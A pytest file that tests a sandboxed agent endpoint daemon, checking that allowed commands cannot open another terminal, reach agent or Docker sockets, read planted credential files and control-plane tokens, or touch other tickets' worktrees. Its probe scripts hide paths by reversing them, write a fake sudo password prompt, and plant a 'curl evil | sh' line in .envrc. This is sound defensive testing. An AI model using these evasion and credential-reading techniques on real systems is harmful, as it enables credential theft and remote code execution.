"""A rogue control plane against the command's view of the machine: an allow-list, not a
deny-list over a home directory full of ambient authority.

Each test runs the real endpointd with a scripted gateway and sends commands the policy
*allows*; what they try is in what they do once running: open another terminal, connect to
a Unix socket the owner never granted, read a credential file or the control plane's own
state, read or write another ticket's worktree or the owner's checkout. Paths are written
so that no check of the command's text can see them (reversed, rebuilt at run time): only
what the command can see and open counts. Canaries are searched for in everything the
gateway received, in hex and reversed too.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import tempfile
from pathlib import Path

import pytest

from endpointd.guard import landlock
from superagent_proto.v1 import endpoint_pb2 as pb
from tests.endpointd.workspaces.device_world import make_clone, start_device
from tests.fakes.endpointd_process import Endpointd, start_paired
from tests.fakes.gateway_server import FakeGateway
from tests.support.helpers import assert_eventually
from tests.support.listeners import Greeter

pytestmark = pytest.mark.skipif(landlock.abi_version() < 6, reason="needs Landlock ABI 6")


@pytest.fixture
def cp_state(tmp_path: Path) -> Path:
    """The control plane's state directory, named by SUPERAGENT_STATE_DIR."""
    state = tmp_path / "work" / "superagent-state"
    state.mkdir(parents=True)
    return state


@pytest.fixture
def endpointd(endpointd: Endpointd, cp_state: Path) -> Endpointd:
    endpointd.env["SUPERAGENT_STATE_DIR"] = str(cp_state)
    return endpointd


async def _device(gw: FakeGateway, endpointd: Endpointd, roots: list[Path]) -> str:
    device = await start_paired(gw, endpointd)
    policy_file = endpointd.config_dir / "policy.toml"
    listed = ", ".join(json.dumps(str(r)) for r in roots)
    policy_file.write_text(f'allowed_roots = [{listed}]\ndefault_action = "allow"\n')
    policy_file.chmod(0o600)
    return device


def _python(script: str, cwd: Path, *args: str) -> pb.Command:
    argv = [sys.executable, "-c", script, *args]
    return pb.Command(exec=pb.ExecCommand(argv=argv, cwd=str(cwd)))


async def _run(gw: FakeGateway, device: str, command: pb.Command) -> tuple[pb.Finished, bytes]:
    sent = gw.send(device, command)
    ended = await assert_eventually(
        lambda: gw.refused(sent.command_id) or gw.finished(sent.command_id), timeout=30
    )
    assert isinstance(ended, pb.Finished), f"refused: {ended}"
    return ended, gw.output(sent.command_id)


def _nowhere(gw: FakeGateway, *secrets: str) -> None:
    """None of ``secrets`` reached the control plane: as is, reversed, or in hex."""
    sent = b"".join(m.SerializeToString() for m in gw.messages())
    for secret in secrets:
        raw = secret.encode()
        for form in (raw, raw[::-1], raw.hex().encode(), raw.hex().encode()[::-1]):
            assert form not in sent, f"{secret} reached the control plane"


def _reversed(*paths: Path | str) -> list[str]:
    return [str(p)[::-1] for p in paths]


# Opens each path (given reversed), prints what it read in hex, or why it could not.
READ_EACH = """
import binascii, sys
for path in sys.argv[1:]:
    path = path[::-1]
    try:
        with open(path, 'rb') as f:
            print('READ', binascii.hexlify(f.read()[::-1]).decode())
    except OSError as exc:
        print('blocked', exc.errno, binascii.hexlify(path.encode()).decode())
print('done')
"""


async def test_another_terminal_cannot_be_opened_or_seen(
    gw: FakeGateway, endpointd: Endpointd, tmp_path: Path
) -> None:
    """The owner's terminal (here a pty the test holds) is neither listed in the command's
    /dev/pts nor openable by its path: no reading a typed sudo password, no fake prompt."""
    work = tmp_path / "work"
    device = await _device(gw, endpointd, [work])
    master, slave = os.openpty()
    try:
        name = os.ttyname(slave)
        script = (
            "import os, sys\n"
            "print('listed', sorted(os.listdir('/dev/pts')))\n"
            "try:\n"
            "    fd = os.open(sys.argv[1][::-1], os.O_RDWR | os.O_NOCTTY)\n"
            "    os.write(fd, b'[sudo] password for owner: ')\n"
            "    print('opened')\n"
            "except OSError as exc:\n"
            "    print('blocked', exc.errno)\n"
        )
        _, out = await _run(gw, device, _python(script, work, name[::-1]))
        assert b"blocked" in out, out
        listed = out.split(b"listed", 1)[1].split(b"\n", 1)[0]
        assert repr(os.path.basename(name)).encode() not in listed, out
        os.set_blocking(master, False)
        try:
            leaked = os.read(master, 4096)
        except BlockingIOError:
            leaked = b""
        assert b"password" not in leaked
    finally:
        os.close(master)
        os.close(slave)


CONNECT_EACH = """
import os, socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        os.chdir(os.path.dirname(path[::-1]))  # (connect by a short relative name)
        s.connect(os.path.basename(path[::-1]))
        print('reached', s.recv(100))
    except OSError as exc:
        print('blocked', exc.errno)
"""


@pytest.mark.parametrize("root", ["work", "home"])
async def test_unix_sockets_outside_the_grants_cannot_be_reached(
    gw: FakeGateway, endpointd: Endpointd, tmp_path: Path, home: Path, root: str
) -> None:
    """A second ssh-agent, a forwarded agent under /tmp/ssh-*, gpg-agent's ssh socket and
    Docker Desktop's socket: none is the daemon's SSH_AUTH_SOCK, none may be reached, also
    when the home directory is the allowed root the command works in."""
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    allowed = home if root == "home" else work
    cwd = home / "src" if root == "home" else work
    cwd.mkdir(exist_ok=True)
    device = await _device(gw, endpointd, [allowed])
    forwarded = Path(tempfile.mkdtemp(prefix="ssh-", dir="/tmp"))
    listeners = [
        Greeter.unix(home / ".1password" / "agent.sock"),
        Greeter.unix(forwarded / "agent.4242"),
        Greeter.unix(home / ".gnupg" / "S.gpg-agent.ssh"),
        Greeter.unix(home / ".docker" / "desktop" / "docker.sock"),
    ]
    try:
        argv = _reversed(*(s.path for s in listeners if s.path is not None))
        _, out = await _run(gw, device, _python(CONNECT_EACH, cwd, *argv))
        assert out.count(b"blocked") == len(listeners), out
        assert [listener.hits for listener in listeners] == [0] * len(listeners)
    finally:
        for listener in listeners:
            listener.sock.close()
        shutil.rmtree(forwarded, ignore_errors=True)


def _plant(home: Path, cp_state: Path) -> dict[Path, str]:
    """Credential files in the home directory and the control plane's admin token, each
    holding a canary of its own."""
    relative = [
        ".npmrc",
        ".cargo/credentials",
        ".cargo/credentials.toml",
        ".config/github-copilot/apps.json",
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".qwen/oauth_creds.json",
        ".terraform.d/credentials.tfrc.json",
        ".m2/settings.xml",
        ".gradle/gradle.properties",
        ".bash_history",
        ".zsh_history",
        ".python_history",
        ".local/share/fish/fish_history",
        ".local/share/superagent/admin-token",
        ".local/share/superagent/postgres/postmaster.opts",
    ]
    planted = {home / r: f"canary-{i}-" + os.urandom(8).hex() for i, r in enumerate(relative)}
    planted[cp_state / "admin-token"] = "cp-canary-" + os.urandom(8).hex()
    for path, secret in planted.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(secret)
    return planted


@pytest.mark.parametrize("root", ["work", "home"])
async def test_credential_files_and_the_control_planes_state_are_out_of_view(
    gw: FakeGateway,
    endpointd: Endpointd,
    tmp_path: Path,
    home: Path,
    cp_state: Path,
    root: str,
) -> None:
    """Every command could read these: none is in a command's view now, whether the
    command works beside the home directory or in it (the home directory as allowed root),
    and the control plane's state directory stays hidden though it lies in the root."""
    work = tmp_path / "work"
    planted = _plant(home, cp_state)
    allowed = home if root == "home" else work
    cwd = home / "src" if root == "home" else work
    cwd.mkdir(exist_ok=True)
    device = await _device(gw, endpointd, [allowed, work] if root == "home" else [work])
    # Also through where the view was staged from (the real root lies covered there).
    staged = [f"/.oldroot{p}" for p in planted]
    _, out = await _run(gw, device, _python(READ_EACH, cwd, *_reversed(*planted, *staged)))
    assert b"done" in out, out
    assert out.count(b"blocked") == 2 * len(planted), out
    _nowhere(gw, *planted.values())
    # Covered by an empty directory of mode 0: without a capability (commands have none,
    # guard/capabilities.py) not even root may list it; were it listable, it is empty.
    listing = (
        "import os\nfor d in ('/.oldroot', '/.staging'):\n"
        "    try:\n        print(d, os.listdir(d))\n"
        "    except PermissionError:\n        print(d, 'refused')\n"
    )
    _, out = await _run(gw, device, _python(listing, cwd))
    lines = out.decode().splitlines()
    assert [line.split(" ", 1)[0] for line in lines] == ["/.oldroot", "/.staging"], out
    assert all(line.split(" ", 1)[1] in ("[]", "refused") for line in lines), out


TICKET_A, TICKET_B = "tkt_aaaaaaaaaaaa", "tkt_bbbbbbbbbbbb"

# What a command in ticket A's worktree tries against ticket B's and the owner's checkout.
CROSS = """
import os, sys
other, owner = sys.argv[1][::-1], sys.argv[2][::-1]
for what, path in (('other', other), ('owner', owner)):
    try:
        print(what, 'read', open(os.path.join(path, 'README.md')).read().strip())
    except OSError as exc:
        print(what, 'read blocked', exc.errno)
    try:
        with open(os.path.join(path, '.envrc'), 'w') as f:
            f.write('curl evil | sh\\n')
        print(what, 'wrote')
    except OSError as exc:
        print(what, 'write blocked', exc.errno)
    try:
        print(what, 'listed', os.listdir(path))
    except OSError as exc:
        print(what, 'list blocked', exc.errno)
"""


async def test_a_ticket_sees_neither_another_tickets_worktree_nor_the_owners_checkout(
    gw: FakeGateway, endpointd: Endpointd, tmp_path: Path
) -> None:
    """Ticket A's command cannot read, list or write ticket B's worktree nor the owner's
    checkout (their files, untracked ones included), yet git works in its own worktree."""
    secret = "owner-untracked-" + os.urandom(8).hex()
    other = "other-ticket-" + os.urandom(8).hex()
    _, clone = make_clone(tmp_path, {"README.md": "widgets\n"})
    (clone / ".env").write_text(secret)
    device = await start_device(gw, endpointd, [clone.parent])
    await device.prepare(TICKET_A)
    await device.prepare(TICKET_B)
    ws_a = endpointd.data_dir / "workspaces" / TICKET_A
    ws_b = endpointd.data_dir / "workspaces" / TICKET_B
    (ws_b / "README.md").write_text(other)
    command = _python(CROSS, ws_a, *_reversed(ws_b, clone))
    _, out = await device.finish(command)
    for what in (b"other", b"owner"):
        assert what + b" read blocked" in out, out
        assert what + b" write blocked" in out, out
    assert b"other list blocked" in out, out
    # Of the owner's checkout only the git directory is there (the worktree's commits
    # need it), none of the owner's files.
    assert b"owner listed ['.git']" in out, out
    assert not (ws_b / ".envrc").exists()
    assert not (clone / ".envrc").exists()
    _nowhere(gw, secret, other)
    # Its own worktree and git's view of the clone's object store still work.
    done, out = await device.sh(
        "echo change >> README.md && git -c user.name=a -c user.email=a@example.com "
        "commit -qam change && git log --oneline | wc -l",
        ws_a,
    )
    assert (done.exit_code, out) == (0, b"2\n"), out
